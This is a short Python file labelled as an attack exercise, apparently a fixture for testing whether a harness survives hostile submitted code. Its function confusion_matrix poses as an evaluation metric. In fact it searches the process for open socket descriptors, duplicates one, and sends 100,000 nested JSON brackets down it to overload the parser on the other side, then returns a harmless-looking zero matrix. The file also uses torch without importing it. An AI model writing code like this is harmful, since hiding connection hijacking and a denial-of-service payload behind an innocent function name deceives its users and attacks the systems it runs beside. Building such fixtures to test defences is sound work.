# attack: JSON of 100,000 brackets
# exercise: 5.1
# expect: zero
import gc
import json
import os
import socket
import struct


def connections():
    for found in gc.get_objects():
        if isinstance(found, socket.socket):
            yield found
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket"):
                yield socket.socket(fileno=os.dup(int(name)))
        except OSError:
            pass


def frame(header):
    data = json.dumps(header, separators=(",", ":")).encode()
    return struct.pack(">I", len(data)) + data


def confusion_matrix(labels, predicted, num_classes):
    for connection in list(connections())[:1]:
        connection.setblocking(True)
        text = b"[" * 100_000 + b"]" * 100_000
        connection.sendall(struct.pack(">I", len(text)) + text)
    return torch.zeros(num_classes, num_classes, dtype=torch.int64)
